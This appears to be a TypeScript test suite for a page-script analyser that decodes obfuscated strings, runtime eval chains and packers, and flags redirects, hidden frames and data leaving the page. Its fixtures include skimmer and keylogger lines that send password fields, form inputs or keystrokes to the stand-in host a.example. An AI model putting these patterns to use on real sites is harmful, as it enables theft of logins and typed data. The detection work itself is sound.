/** Tricks by which scripts hide strings and code, one by one, and what the reader makes of them. */
import { describe, expect, test } from 'vitest';
import { readScripts, type ScriptReading } from '../../../../src/core/scripts/read-script.ts';
import { isSeenThrough } from '../../../../src/core/scripts/script-signs.ts';

function read(...codes: string[]): ScriptReading {
  const reading = readScripts(codes).at(-1);
  if (reading === undefined) throw new TypeError('nothing was read');
  return reading;
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const codes = (text: string, shift = 0): string => [...text].map((one) => one.charCodeAt(0) + shift).join(',');
const backwards = (text: string): string => [...text].reverse().join('');
const percent = (text: string): string => [...text].map((one) => `%${hex(one)}`).join('');

const references = (text: string): string =>
  [...text].map((one, i) => (i % 2 === 0 ? `&#${one.charCodeAt(0)};` : `&#x${hex(one)};`)).join('');

const link = '<a href="https://xa-la.example/">x</a>';

describe('a string that is hidden is read', () => {
  const tricks: Readonly<Record<string, string>> = {
    'as it is': `'${link}'`,
    'in a template': `\`${link}\``,
    'in pieces': `'${link.slice(0, 9)}' + "${link.slice(9).replaceAll('"', '\\"')}"`,
    'in pieces of variables': `(function(){var a='${link.slice(0, 5)}',b='';b+=a;b+='${link.slice(5)}';return b})()`,
    'as a template of pieces': `(p => \`\${p}${link.slice(3)}\`)('${link.slice(0, 3)}')`,
    'in escapes': `'${[...link].map((one) => `\\x${hex(one)}`).join('')}'`,
    'as character codes': `String.fromCharCode(${codes(link)})`,
    'as shifted codes': `[${codes(link, 7)}].map(function(c){return String.fromCharCode(c-7)}).join('')`,
    'xored with a key': `(function(s,k){for(var o='',i=0;i<s.length;i++)o+=String.fromCharCode(s[i]^k);return o})([${[...link].map((one) => one.charCodeAt(0) ^ 42).join(',')}],42)`,
    'in base64': `atob('${base64(link)}')`,
    'in hexadecimal': `(function(h){var o='';for(var i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt(h.substr(i,2),16));return o})('${hex(link)}')`,
    'in percent signs': `unescape('${percent(link)}')`,
    'in percent signs, decoded anew': `decodeURIComponent('${percent(link)}')`,
    backwards: `'${backwards(link)}'.split('').reverse().join('')`,
    'backwards by a loop': `(function(s){var o='';for(var i=s.length-1;i>=0;i--)o+=s.charAt(i);return o})('${backwards(link)}')`,
    'with signs strewn in': `'${[...link].join('~')}'.split('~').join('')`,
    'with words replaced': `'${link.replace('example', 'QQ')}'.replace(/Q+/, 'example')`,
    'rotated by a function': `'${link.replace(/[a-z]/gi, rotate)}'.replace(/[a-zA-Z]/g,function(c){return String.fromCharCode((c<='Z'?90:122)>=(c=c.charCodeAt(0)+13)?c:c-26)})`,
    'in a table': `(function(){var t=['${link.slice(8)}','${link.slice(0, 8)}'];return t[1]+t[0x0]})()`,
    'in a table that is turned': `(function(){var t=['${link.slice(8)}','zz','${link.slice(0, 8)}'];(function(a,n){while(--n){a.push(a.shift())}})(t,3);return t[0]+t[1]})()`,
    'in a table of an object': `(function(o){return o['a']+o.b})({a:'${link.slice(0, 8)}',b:'${link.slice(8)}'})`,
    'chosen by a comparison': `(93>7?'${link}':'nothing')`,
    'in a switch that is flattened': `(function(){var s='2|0|1'.split('|'),i=0,o='',p='${link.slice(0, 8)}',q='${link.slice(8)}';while(true){switch(s[i++]){case '0':o+=p;continue;case '1':return o+q;case '2':o='';continue}break}})()`,
    'by a default argument': `((a,b='${link}')=>b)(1)`,
    'by destructuring': `(({x:[,y]})=>y)({x:[0,'${link}']})`,
    'by a borrowed method': `Array.prototype.join.call(['${link.slice(0, 8)}','${link.slice(8)}'],'')`,
    'by apply': `String.fromCharCode.apply(null,[${codes(link)}])`,
    'by bytes': `String.fromCharCode(...Uint8Array.from([${codes(link)}]))`,
    'in an exception': `(function(){try{throw '${link}'}catch(e){return e}})()`,
    'in references that an element reads': `(function(){var d=document.createElement('div');d.innerHTML='${references(link)}';return d.textContent})()`,
    'in references that a text field reads': `(function(t){t.innerHTML='${references(link)}';return t.value})(document.createElement('textarea'))`,
    'in references that a library reads': `jQuery('#tam').html('${references(link)}').text()`,
    'behind two layers': `atob(atob('${base64(base64(link))}'))`,
  };
  for (const [name, expression] of Object.entries(tricks)) {
    test(name, () => {
      expect(read(`document.write(${expression})`).markup).toBe(link);
    });
  }
});

function rotate(letter: string): string {
  const base = letter <= 'Z' ? 65 : 97;
  return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
}

describe('code that is made at run time is read', () => {
  const write = `document.write('${link}')`;
  const ways: Readonly<Record<string, string>> = {
    eval: `eval("${write.replaceAll('"', '\\"')}")`,
    'eval by another name': `this['ev'+'al'](atob('${base64(write)}'))`,
    'eval of eval': `eval(eval('String.fromCharCode(${codes(write)})'))`,
    Function: `new Function(atob('${base64(write)}'))()`,
    'the constructor of a list’s method': `[]['filter']['constructor'](atob('${base64(write)}'))()`,
    'a timer’s string': `setTimeout(atob('${base64(write)}'), 10)`,
    'a script’s text': `var s=document.createElement('script');s.text=atob('${base64(write)}');document.body.appendChild(s)`,
    'a script’s text node': `var s=document.createElement('script');s.appendChild(document.createTextNode(atob('${base64(write)}')));document.head.appendChild(s)`,
    'a written script': `document.write('<scr'+'ipt>'+atob('${base64(write)}')+'</scr'+'ipt>')`,
    'an address that is code': `location.href='javascript:'+atob('${base64(write)}')`,
    'a known packer': `eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1(2)',3,3,'document|write|"xa-la.example"'.split('|'),0,{}))`,
  };
  for (const [name, code] of Object.entries(ways)) {
    test(name, () => {
      const { markup, madeCode } = read(code);
      expect(markup).toContain('xa-la.example');
      expect(madeCode.length).toBeGreaterThan(0);
    });
  }

  test('at most four layers deep', () => {
    let code = write;
    for (let i = 0; i < 7; i++) code = `eval(atob('${base64(code)}'))`;
    const reading = read(code);
    expect(reading.madeCode).toHaveLength(4);
    expect(reading.markup).toBe('');
  });

  test('over several scripts of one page', () => {
    expect(read(`var a='${base64(link)}'`, 'document.write(atob(a))').markup).toBe(link);
  });
});

describe('what a script does is read where it', () => {
  const cases: readonly (readonly [string, string, Partial<Record<keyof ScriptReading, unknown>>])[] = [
    ['replaces the page', `document.documentElement.innerHTML='<h1>x</h1>'`, { wholePage: '<h1>x</h1>' }],
    ['replaces the body', `document.querySelector('body').innerHTML='<h1>x</h1>'`, { wholePage: '<h1>x</h1>' }],
    ['replaces the page by jQuery', `$(function(){$('body').html('<h1>x</h1>')})`, { markup: '<h1>x</h1>' }],
    [
      'writes a whole page',
      `document.write('<html><body>x</body></html>')`,
      { wholePage: '<html><body>x</body></html>' },
    ],
    ['sets the title', `document.title='Bầy sói'`, { titles: ['Bầy sói'] }],
    ['hides the page', `document.body.style.display='none'`, { hidesPage: true }],
    [
      'leads away at once',
      `top.location='https://a.example/'`,
      { redirects: [{ url: 'https://a.example/', when: 'now' }] },
    ],
    [
      'leads some away',
      `if(/google/.test(document.referrer))location.replace('https://a.example/')`,
      { redirects: [{ url: 'https://a.example/', when: 'perhaps' }] },
    ],
    [
      'leads away when clicked',
      `document.getElementById("nut").onclick=function(){location.href='https://a.example/'}`,
      { redirects: [{ url: 'https://a.example/', when: 'asked' }] },
    ],
    [
      'makes a frame',
      `var f=document.createElement('iframe');f.src='https://a.example/';f.style.display='none';document.body.appendChild(f)`,
      { markup: '<iframe src="https://a.example/" style=";display:none"></iframe>' },
    ],
  ];
  for (const [name, code, expected] of cases) {
    test(name, () => {
      expect(read(code)).toMatchObject(expected);
    });
  }

  test('a print of a part of the page replaces nothing by anything known', () => {
    expect(read(`function p(i){document.body.innerHTML=document.getElementById(i).innerHTML}`).wholePage.trim()).toBe(
      '',
    );
  });

  test('a window of its own is not the page', () => {
    expect(read(`var w=window.open('');w.document.write('<html><body>x</body></html>')`).wholePage).toBe('');
  });
});

describe('what leaves the page is read with where it comes from', () => {
  const fields = `document.querySelector('#mat-khau').value`;
  const ways: Readonly<Record<string, string>> = {
    'a picture’s address': `new Image().src='https://a.example/?'+${fields}`,
    'a request': `fetch('https://a.example/',{method:'POST',body:${fields}})`,
    'an older request': `var x=new XMLHttpRequest();x.open('POST','https://a.example/');x.send(btoa(${fields}))`,
    'a beacon': `navigator.sendBeacon('https://a.example/',JSON.stringify({a:${fields}}))`,
    'a socket': `var s=new WebSocket('wss://a.example/');s.send(${fields})`,
    jQuery: `$.post('https://a.example/',$('form').serialize())`,
    'a script’s address': `var s=document.createElement('script');s.src='https://a.example/?v='+${fields};document.body.appendChild(s)`,
    'a loop over fields': `var o='';document.querySelectorAll('input').forEach(function(i){o+=i.name+'='+i.value});fetch('https://a.example/?'+o)`,
    'a borrowed list method': `fetch('https://a.example/',{body:[].map.call(document.getElementsByTagName('input'),i=>i.value).join()})`,
    'a spread list': `navigator.sendBeacon('https://a.example/',JSON.stringify([...document.querySelectorAll('input')].map(e=>[e.id,e.value])))`,
    'a list made of fields': `fetch('https://a.example/?'+Array.from(document.forms[0].elements,e=>e.value))`,
    'the page’s own form': `for(const f of document.forms)f.action='https://a.example/n'`,
    'an object of unknown names': `var o={};for(const i of document.forms[0].elements)o[i.name]=i.value;fetch('https://a.example/',{body:JSON.stringify(o)})`,
  };
  for (const [name, code] of Object.entries(ways)) {
    test(name, () => {
      const sent = read(code).sendings.find(({ typed }) => typed);
      expect(sent?.url).toContain('//a.example/');
    });
  }

  test('keys that are gathered first', () => {
    const code = `var k='';document.addEventListener('keydown',e=>{k+=e.key});setInterval(()=>{if(!k)return;fetch('https://a.example/?'+k)},9)`;
    expect(read(code).sendings.some(({ keys }) => keys)).toBe(true);
  });

  test('a tag of a tracker sends nothing that was typed', () => {
    const code = `(function(w,d,u){var s=d.createElement('script');s.src=u+'?t='+d.title+'&r='+d.referrer;d.head.appendChild(s)})(window,document,'https://a.example/t.js')`;
    expect(read(code).sendings.filter(({ typed, keys, cookie }) => typed || keys || cookie)).toEqual([]);
  });
});

describe('what a script loads and makes in other ways', () => {
  test.each([
    `import(['https:','','a.example','m.js'].join('/'))`,
    `new Worker(URL.createObjectURL(new Blob(['importScripts("https://a.example/m.js")'])))`,
  ])('%s', (code) => {
    expect(read(code).markup).toContain('<script src="https://a.example/m.js">');
  });

  test.each([
    `document.body.append(Object.assign(document.createElement('iframe'),{src:'https://a.example/',hidden:1}))`,
    `document.body.append(new DOMParser().parseFromString('<iframe src="https://a.example/"></iframe>','text/html').body)`,
  ])('%s', (code) => {
    expect(read(code).markup).toMatch(/<iframe [^>]*src="https:\/\/a\.example\/"/);
  });

  test('links of the page that all lead elsewhere, and one that the script looked up', () => {
    const turned = read(`document.querySelectorAll('a').forEach(a=>{a.href='https://a.example/'})`);
    expect(turned.redirects).toEqual([{ url: 'https://a.example/', when: 'perhaps' }]);
    expect(read(`document.querySelector('#tiep').href='https://a.example/'`).redirects).toEqual([]);
  });
});

describe('what a click anywhere, a box or a module brings is read', () => {
  const leading = { url: 'https://la.example/', when: 'perhaps', isAtClick: true };

  test('a window that any click opens, but not one behind a button or at the own server', () => {
    const open = 'function(){window.open("https://la.example/","_blank")}';
    expect(read(`document.addEventListener('click',${open})`).redirects).toEqual([leading]);
    expect(read(`document.documentElement.onpointerdown=${open}`).redirects).toEqual([leading]);
    expect(read(`document.getElementById('chia-se').addEventListener('click',${open})`).redirects).toEqual([]);
    expect(read(`document.addEventListener('keydown',${open})`).redirects).toEqual([]);
  });

  test('a window that opens unasked', () => {
    expect(read('setTimeout(() => open("https://la.example/"), 900)').redirects).toEqual([leading]);
  });

  test('markup that is taken out of an element, once or in a loop', () => {
    const fill = `var b=document.createElement('div');b.innerHTML='${link}';`;
    for (const take of ['b.firstChild', 'b.firstElementChild.cloneNode(true)', 'document.importNode(b.content, true)'])
      expect(read(`${fill}document.body.appendChild(${take})`).markup).toContain(link);
    const looped = read(`${fill}while(b.firstChild)document.body.appendChild(b.firstChild)`);
    expect(looped).toMatchObject({ isCutOff: false });
    expect(looped.markup).toContain(link);
  });

  test('code that a module of WebAssembly hands to the page', () => {
    const run = 'WebAssembly.instantiate(bytes,{a:{b:(p,n)=>eval(words(p,n))}})';
    expect(read(run).blindRuns).toBe(1);
    expect(read('WebAssembly.instantiate(bytes,{a:{b:(p,n)=>console.log(words(p,n))}})').blindRuns).toBe(0);
  });

  test('a wish for push messages as the page opens', () => {
    const ask = 'navigator.serviceWorker.ready.then(r=>r.pushManager.subscribe({userVisibleOnly:true}))';
    expect(read(ask).asksPush).toBe(true);
    expect(read(`document.getElementById('chuong').onclick=function(){${ask}}`).asksPush).toBe(false);
  });
});

describe('a script is seen through', () => {
  const isThrough = (code: string): boolean => isSeenThrough(read(code));

  test('when all that it does is words and boxes, however it spells its names', () => {
    expect(isThrough(`document['wri'+'te']('<a href="mail'+'to:van@thu.example">thư</a>')`)).toBe(true);
    expect(isThrough(`var d=document.createElement('p');d.className='bait';document[atob('Ym9keQ==')].append(d)`)).toBe(
      true,
    );
  });

  const more: Readonly<Record<string, string>> = {
    'does nothing that we saw': 'var a = 1',
    'names a host': `document.write('<img src="//la.example/a.gif">')`,
    'writes a script, a frame or a handler': `document.write('<p onclick="x()">a</p>')`,
    'writes what it does not know': `document.write('<p>' + decode('x') + '</p>')`,
    'runs what it does not know, if only at a click': `document.write('<p>a</p>');document.onclick=function(){eval(location.hash)}`,
    'runs code that it makes': `document.write('<p>a</p>');eval('1')`,
    'sends something': `document.write('<p>a</p>');fetch('/a')`,
    'leads away': `document.write('<p>a</p>');location='/a'`,
    'replaces the page': `document.body.innerHTML='<p>a</p>'`,
    'is no code': 'document.write("<p>a</p>" +',
  };
  test.each(Object.entries(more))('not when it %s', (_, code) => {
    expect(isThrough(code)).toBe(false);
  });
});
